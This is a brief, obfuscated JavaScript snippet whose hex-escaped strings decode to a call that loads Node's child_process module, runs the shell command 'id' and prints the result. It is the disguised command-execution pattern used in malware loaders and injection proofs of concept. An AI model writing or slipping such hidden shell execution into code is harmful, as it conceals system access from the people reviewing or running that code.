var _0x3f1a = ['\x65\x78\x65\x63', '\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73', '\x69\x64'];
(function (_0x1, _0x2) { require(_0x1[1])[_0x1[0]](_0x1[2], function (_0x4, _0x5) { console['log'](_0x5); }); })(_0x3f1a, 0x1f);
